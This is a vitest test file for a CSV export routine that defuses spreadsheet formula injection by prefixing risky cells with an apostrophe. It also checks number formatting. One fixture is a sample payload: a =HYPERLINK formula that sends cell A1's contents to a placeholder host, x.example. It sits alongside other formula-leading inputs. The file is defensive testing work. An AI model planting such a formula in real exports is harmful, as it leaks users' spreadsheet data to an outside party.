/**
 * CSV cells that a spreadsheet would read as a formula (OWASP "CSV injection": a leading =, +, -, @,
 * tab or carriage return) are written as text with a leading apostrophe; numbers stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../server/reports/csv.js';
import type { Table } from '../../server/reports/export-tables.js';

const table = (rows: Table['rows']): Table => ({
  name: 'T',
  title: 'T',
  columns: [
    { header: 'A', format: 'text' },
    { header: 'B', format: 'number' },
  ],
  rows,
});
const lines = (tables: Table[]) =>
  toCsv(tables)
    .replace(/^\uFEFF/, '')
    .split('\r\n');

describe('toCsv', () => {
  it('writes text that starts like a formula as text', () => {
    const out = lines([
      table([
        ['=HYPERLINK("http://x.example/?q="&A1,"Bấm")', 1],
        ['+84 912', 2],
        ['-2+3', 3],
        ['@SUM(A1:A9)', 4],
        ['\tcmd', 5],
        ['\rcmd', 6],
      ]),
    ]);
    expect(out.slice(2, 8)).toEqual([
      `"'=HYPERLINK(""http://x.example/?q=""&A1,""Bấm"")",1`,
      "'+84 912,2",
      "'-2+3,3",
      "'@SUM(A1:A9),4",
      "'\tcmd,5",
      `"'\rcmd",6`,
    ]);
  });

  it('neutralises titles and headers too', () => {
    const out = lines([{ name: 'T', title: '=1+1', columns: [{ header: '@A', format: 'text' }], rows: [] }]);
    expect(out.slice(0, 2)).toEqual(["'=1+1", "'@A"]);
  });

  it('keeps numbers (negative ones included) and ordinary text as they were', () => {
    const out = lines([
      table([
        ['Tư pháp – Hộ tịch', -5],
        ['a=b', -1.5],
        ['', null],
      ]),
    ]);
    expect(out.slice(2, 5)).toEqual(['Tư pháp – Hộ tịch,-5', 'a=b,-1.50', ',']);
  });

  it('writes a change that rounds to nothing as 0.00, not -0.00', () => {
    const out = lines([
      table([
        ['a', -0.001],
        ['b', -0],
        ['c', 0.004],
      ]),
    ]);
    expect(out.slice(2, 5)).toEqual(['a,0.00', 'b,0', 'c,0.00']);
  });
});
